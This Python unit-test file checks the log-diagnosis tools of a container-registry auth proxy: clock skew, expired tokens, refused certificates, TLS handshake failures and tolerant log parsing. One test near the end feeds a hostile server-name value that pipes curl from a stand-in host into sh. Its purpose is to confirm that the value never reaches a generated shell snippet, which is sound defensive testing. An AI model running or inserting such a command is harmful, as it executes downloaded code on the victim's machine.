"""Detector details that a real log cannot show yet, and reading tolerance.

The integration tests (tests/integration/test_tools_trace.py) reproduce every pattern with real
clients; these cover the parts that depend on a field the proxy does not log yet (the
registry's `Date`, proposed as `upstream_date`) and on records from other versions."""

from __future__ import annotations

import datetime as dt
import json

import pytest

from regauth.tools.diagnosis import Context
from regauth.tools.diagnosis import diagnose
from regauth.tools.log_records import conversations
from regauth.tools.log_records import parse_lines

NBF = 1_800_000_000


def _refused_by_registry(**extra: object) -> dict[str, object]:
    record: dict[str, object] = {
        "time": dt.datetime.fromtimestamp(NBF + 1, dt.UTC).isoformat(),
        "conversation": "c1",
        "client": "10.0.0.5:4000",
        "method": "GET",
        "path": "/v2/app/manifests/1",
        "kind": "registry",
        "status": 401,
        "answered_by": "upstream",
        "auth": {
            "scheme": "Bearer",
            "jwt": {
                "header": {"kid": "K"},
                "claims": {
                    "iss": "regauth",
                    "aud": "svc",
                    "nbf": NBF,
                    "exp": NBF + 300,
                    "jti": "j1",
                },
            },
        },
        "challenge": {"scheme": "Bearer", "service": "svc", "error": "invalid_token"},
        "upstream_challenge": [{"scheme": "Bearer", "service": "svc", "error": "invalid_token"}],
    }
    record.update(extra)
    return record


def _diagnose(*records: dict[str, object]) -> list:
    read = parse_lines([json.dumps(r) for r in records])
    ctx = Context(read.entries, dt.datetime.fromtimestamp(NBF + 3600, dt.UTC))
    return [d for c in conversations(read.entries) for d in diagnose(c, ctx)]


def test_registry_clock_behind_is_named_clock_skew_when_the_date_is_logged() -> None:
    behind = "Thu, 14 Jan 2027 23:00:00 GMT"  # two hours before NBF
    [found] = _diagnose(_refused_by_registry(upstream_date=behind))
    assert found.code == "registry-refused-token"
    assert found.detail.startswith("clock skew: the registry's clock")
    assert "before the token's nbf" in found.detail


def test_registry_clock_ahead_is_named_clock_skew() -> None:
    ahead = "Fri, 15 Jan 2027 12:00:00 GMT"  # hours past exp
    [found] = _diagnose(_refused_by_registry(upstream_date=ahead))
    assert "past the token's exp" in found.detail


def test_without_the_date_every_cause_is_named() -> None:
    [found] = _diagnose(_refused_by_registry())
    assert "rootcertbundle" in found.detail and "issuer" in found.detail
    assert "no registry Date" in found.detail


def test_an_expired_token_is_the_clients_problem() -> None:
    late = dt.datetime.fromtimestamp(NBF + 400, dt.UTC).isoformat()
    [found] = _diagnose(_refused_by_registry(time=late))
    assert "had expired" in found.detail


def test_torn_and_foreign_lines_are_skipped_and_fields_optional() -> None:
    read = parse_lines(['{"kind": "token"}', "not json", "[1, 2]", "", '{"time": "x"}'])
    assert read.skipped == 2 and len(read.entries) == 2
    assert all(e.time is None for e in read.entries)
    assert [c.id for c in conversations(read.entries)] == ["line-1", "line-5"]


def test_list_fields_holding_something_else_read_as_empty() -> None:
    from regauth.tools import trace

    challenge = {
        "time": "2026-01-01T00:00:00+00:00",
        "conversation": "a",
        "kind": "registry",
        "status": 401,
        "challenge": {"scheme": "Bearer", "scopes": 5},
        "upstream_challenge": [{"scheme": "Bearer", "scopes": "repository:x:pull"}],
    }
    token = {
        "time": "2026-01-01T00:00:01+00:00",
        "conversation": "a",
        "kind": "token",
        "status": 200,
        "token_response": {"decisions": [{"scope": "s", "granted": 7}]},
    }
    read = parse_lines([json.dumps(challenge), json.dumps(token)])
    assert [e.names for e in read.entries] == [set(), set()]
    [c] = conversations(read.entries)
    texts = [step.text for step in trace.steps(c)]
    assert any("Bearer scope (no scope)" in t for t in texts)
    assert any("[-]" in t for t in texts)
    [found] = _diagnose(challenge, token)
    assert found.code == "partial-grant" and "s → [-]" in found.detail


def test_a_challenge_presenting_a_token_joins_the_conversation_that_issued_it() -> None:
    token = {
        "time": "2026-01-01T00:00:00+00:00",
        "conversation": "a",
        "kind": "token",
        "status": 200,
        "token_response": {"jti": "j1", "account": "ci"},
    }
    # The token verified (an insufficient-scope refusal): a forged one does not join
    # (tests/unit/tools/test_untrusted_output.py).
    retry = {
        "time": "2026-01-01T00:00:01+00:00",
        "conversation": "b",
        "kind": "registry",
        "status": 401,
        "auth": {"scheme": "Bearer", "jwt": {"claims": {"jti": "j1"}}},
        "decision": {
            "forward": False,
            "reason": "insufficient scope",
            "verified_token": {"subject": "ci", "source": "regauth"},
        },
    }
    [c] = conversations(parse_lines([json.dumps(token), json.dumps(retry)]).entries)
    assert c.id == "a" and c.merged == ["b"]


def _answered_by_regauth(status: int, reason: str = "", **extra: object) -> dict[str, object]:
    record: dict[str, object] = {
        "time": dt.datetime.fromtimestamp(NBF + 1, dt.UTC).isoformat(),
        "conversation": "c2",
        "client": "10.0.0.6:4000",
        "method": "PUT",
        "path": "/v2/app/blobs/uploads/u1",
        "kind": "registry",
        "status": status,
        "answered_by": "regauth",
        "decision": {"forward": False, "reason": reason},
    }
    record.update(extra)
    return record


def test_the_login_queue_is_named_apart_from_failed_logins() -> None:
    [found] = _diagnose(
        {
            "time": dt.datetime.fromtimestamp(NBF + 1, dt.UTC).isoformat(),
            "conversation": "c3",
            "client": "10.0.0.7:4000",
            "method": "GET",
            "path": "/v2/token",
            "kind": "token",
            "status": 429,
            "answered_by": "regauth",
            "token_request": {"username": "ci"},
            "token_response": {"rate_limited": "login queue", "refused": "busy"},
        }
    )
    assert found.code == "login-queue" and "nothing was checked or counted" in found.detail
    assert "fix the credentials" not in found.hint


def test_a_refusal_by_the_delegate_check_is_named() -> None:
    [failed] = _diagnose(
        _answered_by_regauth(
            503,
            "delegate check failed: the registry behind regauth answers without "
            "authentication; retry shortly",
        )
    )
    assert failed.code == "delegate-check-refused" and "auth.token" in failed.hint
    assert not failed.detail.endswith("retry shortly")
    [pending] = _diagnose(_answered_by_regauth(503, "delegate check pending: …"))
    assert "not been checked yet" in pending.title


def test_refused_injected_credentials_are_named_by_the_503_not_the_307() -> None:
    # Issue 25: an upstream 401 to regauth's credentials ends in a 503 (502 before); a request
    # sent back once (307) after a renewal is no failure.
    refused = "upstream refused the injected credentials"
    injected = {"upstream_credentials": "injected"}
    [found] = _diagnose(_answered_by_regauth(503, refused, **injected))
    assert found.code == "upstream-credentials-refused"
    assert found.detail.endswith("the client got 503")
    [older] = _diagnose(_answered_by_regauth(502, refused, **injected))
    assert older.code == "upstream-credentials-refused"
    sent_back = f"{refused}: renewed, client sent back once"
    assert _diagnose(_answered_by_regauth(307, sent_back, **injected)) == []


def test_load_shedding_and_cut_bodies_are_named() -> None:
    [shed] = _diagnose(
        _answered_by_regauth(
            503, "regauth is at its connection limit (32 connections); retry shortly"
        )
    )
    assert shed.code == "regauth-overloaded"
    [slow] = _diagnose(
        _answered_by_regauth(
            200,
            "",
            status_=None,
            error="request body too slow: 3 bytes in 3 s, less than 1024 "
            "bytes/s (regauth_body_min_rate)",
        )
    )
    assert slow.code == "body-too-slow" and "regauth_body_min_rate" in slow.hint


@pytest.mark.parametrize(
    ("reason", "hint"),
    [
        ("client certificate expired at 2026-12-07T17:36:15Z", "issue a new one"),
        ("client certificate is not issued by regauth's client CA", "another CA"),
        ("client certificates of build b3 are revoked", "regauth certs revoke"),
        ("client certificate has no extended key usage", "outside regauth's profile"),
    ],
)
def test_a_refused_client_certificate_is_named_with_its_reason(reason: str, hint: str) -> None:
    [found] = _diagnose(
        _answered_by_regauth(
            401, f"client certificate refused: {reason}", client_certificate={"refused": reason}
        )
    )
    assert found.code == "client-certificate-refused"
    assert found.detail == f"10.0.0.6: {reason}"
    assert hint in found.hint


# -- failed TLS handshakes (issue 26, item 7) ----------------------------------------------------


def _tls(**tls: object) -> dict[str, object]:
    return {
        "time": dt.datetime.fromtimestamp(NBF, dt.UTC).isoformat(),
        "conversation": "t1",
        "client": "10.0.0.7:51000",
        "kind": "tls",
        "status": None,
        "answered_by": None,
        "error": "The client does not trust the proxy's certificate for regauth.test "
        "(sslv3 alert bad certificate)",
        "tls": {"cause": "untrusted", "listen": "10.0.0.1:5443", "ca": "/srv/certs/ca.crt", **tls},
    }


def test_a_go_client_that_does_not_trust_the_ca_gets_the_container_tools_snippets() -> None:
    [found] = _diagnose(_tls(sni="regauth.test", library="go"))
    assert found.code == "tls-untrusted"
    assert found.detail == (
        "10.0.0.7: a Go client (docker, podman, buildah, skopeo, containerd, BuildKit) "
        "connecting for 'regauth.test': The client does not trust the proxy's certificate "
        "for regauth.test (sslv3 alert bad certificate)"
    )
    lines = found.hint.splitlines()
    assert lines[0] == "trust regauth's CA in the client (/srv/certs/ca.crt):"
    assert (
        "    sudo mkdir -p /etc/docker/certs.d/regauth.test:5443 && "
        "sudo cp /srv/certs/ca.crt /etc/docker/certs.d/regauth.test:5443/ca.crt"
    ) in lines
    assert '    server = "https://regauth.test:5443"' in lines
    assert not any("curl" in line for line in lines)


def test_an_openssl_client_gets_curl_and_an_unknown_one_every_snippet() -> None:
    [curl] = _diagnose(_tls(sni="regauth.test", library="openssl"))
    assert "    curl --cacert /srv/certs/ca.crt https://regauth.test:5443/v2/" in curl.hint.split(
        "\n"
    )
    assert "docker" not in curl.hint
    [unknown] = _diagnose(_tls(sni="regauth.test"))
    assert "docker:" in unknown.hint and "curl:" in unknown.hint


def test_without_a_server_name_the_address_is_used_and_the_missing_sni_named() -> None:
    [found] = _diagnose(_tls(library="go"))
    assert "connecting without a server name (SNI)" in found.detail
    assert "/etc/docker/certs.d/10.0.0.1:5443/ca.crt" in found.hint
    assert "the client sent no server name" in found.hint


def test_a_hostile_server_name_never_reaches_a_snippet() -> None:
    [found] = _diagnose(_tls(sni="x; curl evil.test | sh", library="go"))
    assert "evil" not in found.hint and "10.0.0.1:5443" in found.hint
    assert "'x; curl evil.test | sh'" in found.detail  # quoted as what the client sent


@pytest.mark.parametrize(
    ("cause", "code"),
    [("version", "tls-version"), ("closed", "tls-closed"), ("other", "tls-other")],
)
def test_other_handshake_failures_are_named(cause: str, code: str) -> None:
    [found] = _diagnose(_tls(sni="regauth.test", cause=cause))
    assert found.code == code


def test_a_challenge_followed_by_a_failed_handshake_says_so() -> None:
    challenge = {
        "time": dt.datetime.fromtimestamp(NBF - 1, dt.UTC).isoformat(),
        "conversation": "c0",
        "client": "10.0.0.7:50999",
        "kind": "registry",
        "method": "GET",
        "path": "/v2/app/tags/list",
        "status": 401,
        "answered_by": "regauth",
        "challenge": {"scheme": "Bearer", "realm": "https://regauth.test/v2/token"},
    }
    found = {d.code: d for d in _diagnose(challenge, _tls(sni="regauth.test", library="go"))}
    assert set(found) == {"no-token-request", "tls-untrusted"}
    assert found["no-token-request"].detail.endswith(
        "never asked https://regauth.test/v2/token for a token; its TLS handshake failed right "
        "after (line 2: see its conversation for how that client trusts regauth's CA)"
    )
